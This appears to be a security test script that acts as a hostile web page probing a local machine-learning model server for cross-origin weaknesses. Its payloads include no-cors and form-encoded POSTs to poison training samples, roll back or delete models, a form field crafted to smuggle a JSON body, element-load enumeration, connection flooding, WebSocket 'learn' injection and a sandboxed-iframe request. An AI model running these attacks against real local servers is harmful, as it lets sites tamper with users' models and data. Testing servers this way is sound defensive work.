// What a page can try against a server on its user's machine. Returns, attack by attack, what the
// page was able to read; null where it read nothing.
async ({ server, model, elsewhere }) => {
  const read = {};
  const path = `${server}/v1/models/${model}`;
  const sample = JSON.stringify({ x: [[0.5, 0.5]], y: [1] });
  const within = (promise, ms) =>
    Promise.race([promise, new Promise((_, fail) => setTimeout(() => fail(new Error("late")), ms))]);
  const attempt = async (name, act) => {
    try {
      read[name] = (await within(act(), 5000)) || null;
    } catch {
      read[name] = null;
    }
  };
  const fetched = (url, options) => async () => {
    const answer = await fetch(url, options);
    return answer.type === "opaque" ? null : `${answer.status} ${await answer.text()}`;
  };

  for (const mode of ["cors", "no-cors"]) {
    for (const url of ["/v1/models", `/v1/models/${model}`, `/v1/models/${model}/history`, "/metrics"]) {
      await attempt(`${mode} GET ${url}`, fetched(server + url, { mode }));
    }
    for (const type of ["text/plain", "application/x-www-form-urlencoded", "application/json"]) {
      const headers = { "Content-Type": type };
      const post = (body) => ({ method: "POST", mode, headers, body });
      await attempt(`${mode} ${type} samples`, fetched(`${path}/samples`, post(sample)));
      await attempt(`${mode} ${type} predict`, fetched(`${path}/predict`, post('{"x": [[1, 2]]}')));
      await attempt(`${mode} ${type} rollback`, fetched(`${path}/rollback`, post('{"sequence": 2}')));
      await attempt(`${mode} ${type} snapshot`, fetched(`${path}/snapshot`, post("")));
    }
  }
  const headers = { "Content-Type": "application/json" };
  await attempt("PUT", fetched(`${server}/v1/models/of-the-page`, { method: "PUT", headers, body: "{}" }));
  await attempt("redirect", fetched(`${elsewhere}/redirect/${model}`, { method: "POST", body: sample }));
  // Whether an element loads would tell the page which models there are.
  for (const [kind, address] of [["script", "src"], ["img", "src"], ["link", "href"], ["object", "data"]]) {
    const loads = (name) =>
      new Promise((done) => {
        const one = Object.assign(document.createElement(kind), kind === "link" ? { rel: "stylesheet" } : {});
        one.onload = () => done(true);
        one.onerror = () => done(false);
        one[address] = `${server}/v1/models/${name}`;
        document.body.append(one);
        setTimeout(() => done(false), 2000);
      });
    await attempt(`${kind} that loads`, async () => {
      const [there, absent] = await Promise.all([loads(model), loads("absent")]);
      return there === absent ? null : "the model exists";
    });
  }
  await attempt("events", () =>
    new Promise((done, fail) => {
      const source = new EventSource(`${path}/events`);
      source.onopen = () => done("open");
      source.onerror = fail;
    }));
  await attempt("events in many connections", async () => {
    const listening = Array.from({ length: 24 }, (_, i) => {
      const host = server.replace(/localhost|127\.0\.0\.1/, `a${i % 4}.localhost`);
      return fetch(`${host}/v1/models/${model}/events`, { mode: "no-cors" });
    });
    const opened = await Promise.allSettled(listening.map((one) => within(one, 2000)));
    window.listening = opened; // what is open stays so
  });
  await attempt("frame", async () => {
    const frame = document.createElement("iframe");
    frame.src = `${server}/`;
    const loaded = new Promise((done) => (frame.onload = done));
    document.body.append(frame);
    await loaded;
    return frame.contentDocument && frame.contentDocument.body.innerText;
  });
  await attempt("beacon", async () => void navigator.sendBeacon(`${path}/samples`, sample));

  await attempt("form", async () => {
    const frame = document.createElement("iframe");
    frame.name = "sink";
    document.body.append(frame);
    const form = document.createElement("form");
    Object.assign(form, { action: `${path}/samples`, method: "post", enctype: "text/plain", target: "sink" });
    const field = document.createElement("input");
    field.name = '{"x": [[0.5, 0.5]], "y": [1], "names": null, "a';
    field.value = '": 1}';
    form.append(field);
    document.body.append(form);
    const loaded = new Promise((done) => (frame.onload = done));
    form.submit();
    await loaded;
    return frame.contentDocument && frame.contentDocument.body.innerText;
  });

  for (const protocols of [[], ["wolfstream.v1.json"]]) {
    await attempt(`stream ${protocols}`, () =>
      new Promise((done, fail) => {
        const stream = new WebSocket(`${path.replace("http", "ws")}/stream`, protocols);
        stream.onerror = fail;
        stream.onmessage = (message) => {
          stream.send(JSON.stringify({ id: 1, op: "learn", x: [[1, 1]], y: [1] }));
          stream.onmessage = (next) => done(message.data + next.data);
        };
      }));
  }

  await attempt("sandbox", () =>
    new Promise((done) => {
      const frame = document.createElement("iframe");
      frame.sandbox = "allow-scripts";
      frame.srcdoc = `<script>
        fetch(${JSON.stringify(`${path}/samples`)}, { method: "POST", body: ${JSON.stringify(sample)} })
          .then((answer) => answer.text()).catch(() => null).then((text) => parent.postMessage(text, "*"));
      </script>`;
      window.onmessage = (message) => done(message.data);
      document.body.append(frame);
    }));
  await attempt("DELETE", fetched(path, { method: "DELETE" }));
  return read;
}
